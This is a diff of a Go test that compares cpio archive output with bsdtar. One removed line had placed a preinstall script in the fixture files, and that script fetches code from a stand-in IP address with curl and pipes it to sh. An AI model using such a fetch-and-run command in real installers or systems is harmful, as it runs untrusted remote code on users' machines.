@@ -17,8 +17,7 @@ import (
 // formats.Cpio writes.
 func TestCpioAsBsdtar(t *testing.T) {
 	bsdtar := toolNeeded(t, "bsdtar")
-	files := methodFiles()
-	files["Scripts/preinstall"] = []byte("#!/bin/sh\ncurl -s http://198.51.100.7/x | sh\n")
+	files := installerFiles()
 	src := t.TempDir()
 	names := writeFiles(t, src, files)
 	if err := os.Symlink("report.txt", filepath.Join(src, "link")); err != nil {
